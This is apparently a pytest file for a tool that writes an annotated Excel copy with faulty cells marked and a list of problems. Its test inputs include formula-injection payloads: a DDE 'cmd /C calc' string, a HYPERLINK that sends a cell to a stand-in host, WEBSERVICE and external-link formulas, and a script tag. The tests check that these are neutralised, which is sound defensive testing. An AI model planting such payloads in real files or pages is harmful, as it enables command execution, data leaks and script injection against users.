"""The marked copy: faulty cells coloured and commented, a list of links, and the original as it was."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import xlsxwriter
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.worksheet.datavalidation import DataValidation

from partnergraph.build import build, collect_findings
from partnergraph.cli import cli
from partnergraph.errors import DataError, Finding, Place, UsageError
from partnergraph.workbook.annotated_copy import HEADINGS, write_annotated_copy
from partnergraph.workbook.template import create_folder
from tests.conftest import ROOT

RED, AMBER = "FFFFC7CE", "FFFFEB9C"


def workbook_of(folder: Path) -> Path:
    """The tables of a folder as one workbook, which takes their place."""
    book = Workbook()
    book.remove(book.active)
    for path in sorted((folder / "tables").glob("*.csv")):
        sheet = book.create_sheet(path.stem.capitalize())
        with path.open(encoding="utf-8", newline="") as lines:
            for row in csv.reader(lines):
                sheet.append([cell or None for cell in row])
        path.unlink()
    file = folder / "tables" / "partners.xlsx"
    book.save(file)
    return file


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The Keele folder with a workbook instead of CSV tables."""
    folder = tmp_path_factory.mktemp("whole") / "data"
    shutil.copytree(ROOT / "data", folder)
    workbook_of(folder)
    return folder


@pytest.fixture
def folder(whole: Path, tmp_path: Path) -> Path:
    shutil.copytree(whole, tmp_path / "data")
    return tmp_path / "data"


@pytest.fixture(scope="module")
def example(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example of `create_folder` as such a folder, for what does not depend on how many rows there are."""
    folder = tmp_path_factory.mktemp("example") / "data"
    create_folder(folder, "Riverside Trust", csv_tables=True, full=True)
    workbook_of(folder)
    return folder


@pytest.fixture
def small(example: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(example, tmp_path / "data"))


def change(folder: Path, edit: Callable[[Workbook], None]) -> Path:
    file = folder / "tables" / "partners.xlsx"
    book = load_workbook(file)
    edit(book)
    book.save(file)
    return file


def column(sheet: str, name: str, book: Workbook) -> int:
    return [cell.value for cell in book[sheet][1]].index(name) + 1


def test_a_workbook_without_faults_has_no_findings(whole: Path) -> None:
    assert collect_findings(whole) == []


def test_faulty_cells_are_coloured_and_commented_and_listed_with_links(folder: Path, tmp_path: Path) -> None:
    def edit(book: Workbook) -> None:
        book["Relationships"].cell(17, column("Relationships", "kind", book)).value = "fundin"
        book["Events"].cell(3, column("Events", "date", book)).value = "31/03/2008"
        book["Evidence"].cell(5, column("Evidence", "basis", book)).value = None

    file = change(folder, edit)
    before = file.read_bytes()
    findings = collect_findings(folder)
    assert len(findings) == 3
    write_annotated_copy(folder, findings, tmp_path / "marked.xlsx")
    assert file.read_bytes() == before
    book = load_workbook(tmp_path / "marked.xlsx")
    assert book.sheetnames[0] == "Problems"
    rows = list(book["Problems"].iter_rows())
    assert [cell.value for cell in rows[0]] == [*HEADINGS]
    assert len(rows) == 1 + len(findings)
    for finding, row in zip(findings, rows[1:], strict=True):
        assert finding.place is not None
        assert finding.place.sheet in book.sheetnames
        cell = book[finding.place.sheet][finding.place.cell]
        assert cell.fill.fgColor.rgb == RED
        assert finding.message in cell.comment.text
        assert (finding.fix or "") in cell.comment.text
        assert [c.value for c in row[1:6]] == [
            *(finding.place.sheet, finding.place.cell, "error", finding.rule, finding.message)
        ]
        assert row[2].hyperlink.location == f"'{finding.place.sheet}'!{finding.place.cell}"
    coloured = [c for sheet in book.worksheets[1:] for r in sheet.iter_rows() for c in r if c.fill.fgColor.rgb == RED]
    assert len(coloured) == len(findings)


def test_what_the_workbook_holds_besides_is_kept(small: Path, tmp_path: Path) -> None:
    def edit(book: Workbook) -> None:
        sheet = book["Relationships"]
        kind = column("Relationships", "kind", book)
        sheet.cell(3, kind).value = "fundin"
        sheet.cell(3, kind).comment = Comment("Ask Ann.", "me")
        sheet.column_dimensions["B"].width = 55
        sheet.freeze_panes = "B2"
        choose = DataValidation(type="list", formula1='"a,b"')
        choose.add("B2:B90")
        sheet.add_data_validation(choose)
        book.create_sheet("Notes")["A1"] = "=1+1"

    change(small, edit)
    write_annotated_copy(small, collect_findings(small), tmp_path / "marked.xlsx")
    sheet = load_workbook(tmp_path / "marked.xlsx")["Relationships"]
    assert (sheet.column_dimensions["B"].width, sheet.freeze_panes) == (55, "B2")
    assert [str(v.sqref) for v in sheet.data_validations.dataValidation] == ["B2:B90"]
    assert "Ask Ann." in sheet["B3"].comment.text
    assert load_workbook(tmp_path / "marked.xlsx")["Notes"]["A1"].value == "=1+1"


def test_a_marked_copy_that_is_mended_and_put_back_is_read_without_its_list_of_problems(
    folder: Path, tmp_path: Path
) -> None:
    def edit(book: Workbook) -> None:
        book["Relationships"].cell(17, column("Relationships", "kind", book)).value = "fundin"

    file = change(folder, edit)
    write_annotated_copy(folder, collect_findings(folder), tmp_path / "marked.xlsx")
    shutil.copy(tmp_path / "marked.xlsx", file)
    write_annotated_copy(folder, collect_findings(folder), tmp_path / "again.xlsx")
    book = load_workbook(tmp_path / "again.xlsx")
    assert book.sheetnames.count("Problems") == 1
    assert book["Relationships"]["B17"].comment.text.count("'fundin'") == 1
    change(folder, lambda book: setattr(book["Relationships"]["B17"], "value", "working-alongside"))
    assert collect_findings(folder) == []


def test_a_folder_of_csv_tables_gets_a_workbook_with_its_tables_as_sheets(tmp_path: Path) -> None:
    folder = tmp_path / "data"
    shutil.copytree(ROOT / "data", folder)
    path = folder / "tables" / "organisations.csv"
    path.write_bytes(path.read_bytes() + b"niece,=cmd|' /C calc'!A0,legal,\n")
    findings = collect_findings(folder)
    assert findings
    write_annotated_copy(folder, findings, tmp_path / "marked.xlsx")
    book = load_workbook(tmp_path / "marked.xlsx")
    assert book.sheetnames[0] == "Problems"
    assert {*book.sheetnames[1:]} == {p.stem for p in (folder / "tables").glob("*.csv")}
    for finding in findings:
        assert finding.place is not None
        assert book[Path(finding.place.file).stem][finding.place.cell].fill.fgColor.rgb in (RED, AMBER)
    last = list(book["organisations"].iter_rows())[-1]
    assert (last[1].value, last[1].data_type, last[1].quotePrefix) == ("=cmd|' /C calc'!A0", "s", True)
    with path.open(encoding="utf-8", newline="") as lines:
        written = [[cell or None for cell in row] for row in csv.reader(lines)]
    width = len(written[0])
    copied = [[*row, *[None] * (width - len(row))] for row in book["organisations"].iter_rows(values_only=True)]
    assert [[v and str(v) for v in row[:width]] for row in copied] == [
        [*row, *[None] * (width - len(row))][:width] for row in written
    ]


REACHING = [
    '=HYPERLINK("https://e.org/"&A1,"x")',
    '=WEBSERVICE("https://e.org/")',
    "=cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc")',
    "='[other.xlsx]Sheet1'!A1",
    "=[1]Sheet1!A1",
    '=IMAGE("//e.org/x.png")',
    '=IMPORTXML("x","y")',
    '=RTD("x",,"y")',
]


@pytest.mark.parametrize("formula", REACHING)
def test_a_formula_that_reaches_out_of_the_workbook_is_text_in_the_copy(formula: str, tmp_path: Path) -> None:
    folder = tmp_path / "data"
    (folder / "tables").mkdir(parents=True)
    (folder / "partnergraph.toml").write_text('id = "x"\ntitle = "X"\n', "utf-8")
    with xlsxwriter.Workbook(folder / "tables" / "p.xlsx") as book:
        sheet = book.add_worksheet("Organisations")
        sheet.write_row(0, 0, ["id", "name", "form", "type"])
        sheet.write_row(1, 0, ["a", "", "", "charity"])
        sheet.write_formula(1, 1, formula, None, "Aunt")
        sheet.write_formula(1, 2, "=LOWER(A2)", None, "legal")
    findings = collect_findings(folder)
    assert [f.rule for f in findings] == ["unknown-form"]
    write_annotated_copy(folder, findings, tmp_path / "marked.xlsx")
    sheet = load_workbook(tmp_path / "marked.xlsx")["Organisations"]
    assert sheet["B2"].data_type == "s"
    assert sheet["B2"].value.lstrip("=") == formula.lstrip("=")
    assert (sheet["C2"].data_type, sheet["C2"].value) == ("f", "=LOWER(A2)")
    with zipfile.ZipFile(tmp_path / "marked.xlsx") as archive:
        assert not [name for name in archive.namelist() if "externalLink" in name or "vbaProject" in name]


@pytest.mark.parametrize("start", ["=1+1", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\x00=1", "\ud800"])
def test_no_value_in_the_list_of_problems_is_a_formula(start: str, small: Path, tmp_path: Path) -> None:
    finding = Finding("r", "error", f"{start} is wrong.", Place("tables/x.csv", 2, "y"), start, start)
    write_annotated_copy(small, [finding], tmp_path / "marked.xlsx")
    with zipfile.ZipFile(tmp_path / "marked.xlsx") as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    row = next(iter(load_workbook(tmp_path / "marked.xlsx")["Problems"].iter_rows(min_row=2)))
    assert {cell.data_type for cell in row[1:] if cell.value is not None} == {"s"}


def test_a_faulty_cell_among_merged_ones_is_marked_at_the_first_of_them(small: Path, tmp_path: Path) -> None:
    def edit(book: Workbook) -> None:
        sheet = book["Relationships"]
        sheet["B3"] = "fundin"
        sheet.merge_cells("B3:B4")

    change(small, edit)
    findings = collect_findings(small)
    assert [(f.severity, f.place.cell) for f in findings if f.place] == [
        *(("warning", "B3"), ("error", "B3"), ("error", "B4"))
    ]
    write_annotated_copy(small, findings, tmp_path / "marked.xlsx")
    cell = load_workbook(tmp_path / "marked.xlsx")["Relationships"]["B3"]
    assert cell.fill.fgColor.rgb == RED
    assert "fundin" in cell.comment.text


def test_a_workbook_that_cannot_be_read_gives_a_list_of_problems_alone(small: Path, tmp_path: Path) -> None:
    file = small / "tables" / "partners.xlsx"
    file.write_bytes(file.read_bytes()[:2000])
    write_annotated_copy(small, collect_findings(small), tmp_path / "marked.xlsx")
    book = load_workbook(tmp_path / "marked.xlsx")
    assert book.sheetnames == ["Problems"]
    assert book["Problems"]["E2"].value == "workbook-damaged"


def test_the_same_workbook_gives_the_same_copy(small: Path, tmp_path: Path) -> None:
    change(small, lambda book: setattr(book["Relationships"]["B3"], "value", "fundin"))
    for name in ("a.xlsx", "b.xlsx"):
        write_annotated_copy(small, collect_findings(small), tmp_path / name)
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


@pytest.mark.parametrize("where", ["data/tables/marked.xlsx", "data/tables/partners.xlsx", "marked.csv", "no/x.xlsx"])
def test_the_copy_is_never_written_among_the_tables_or_as_another_form(where: str, small: Path) -> None:
    before = sorted((p, p.read_bytes()) for p in small.rglob("*") if p.is_file())
    with pytest.raises(UsageError, match=r"Write the marked copy somewhere else|ends in \.xlsx|no folder"):
        write_annotated_copy(small, [Finding("r", "error", "Wrong.")], small.parent / where)
    assert sorted((p, p.read_bytes()) for p in small.rglob("*") if p.is_file()) == before


def test_the_command_line_writes_the_copy_and_says_so(small: Path, tmp_path: Path) -> None:
    from click.testing import CliRunner

    target = tmp_path / "marked.xlsx"
    done = CliRunner().invoke(cli, ["check", str(small), "--marked", str(target)], catch_exceptions=False)
    assert (done.exit_code, target.exists()) == (0, False)
    assert "Nothing to mark" in done.stderr
    change(small, lambda book: setattr(book["Relationships"]["B3"], "value", "fundin"))
    arguments = ["check", str(small), "--marked", str(target), "--format", "csv"]
    done = CliRunner().invoke(cli, arguments, catch_exceptions=False)
    assert done.exit_code == 1
    assert f"Marked copy: {target}" in done.stderr
    [row] = csv.DictReader(io.StringIO(done.stdout))
    assert (row["file"], row["sheet"], row["cell"]) == ("tables/partners.xlsx", "Relationships", "B3")
    assert target.exists()
    with pytest.raises(UsageError, match="one graph folder"):
        CliRunner().invoke(
            cli, ["check", str(target), "--marked", str(tmp_path / "other.xlsx")], catch_exceptions=False
        )


def test_the_html_form_says_each_problem_and_escapes_it(small: Path) -> None:
    from click.testing import CliRunner

    change(small, lambda book: setattr(book["Relationships"]["B3"], "value", "<script>alert(1)</script>"))
    done = CliRunner().invoke(cli, ["check", str(small), "-f", "html"], catch_exceptions=False)
    assert "&lt;script&gt;" in done.stdout
    assert "<script" not in done.stdout
    assert "<td>tables/partners.xlsx, Relationships</td><td>B3</td><td>error</td>" in done.stdout


def test_a_build_that_stops_says_how_to_get_the_marked_copy(small: Path, tmp_path: Path) -> None:
    change(small, lambda book: setattr(book["Relationships"]["B3"], "value", "fundin"))
    with pytest.raises(DataError, match=r"nothing was published\..*partnergraph check .* --marked problems\.xlsx"):
        build(small, tmp_path / "build")
    assert not (tmp_path / "build" / "current").exists()
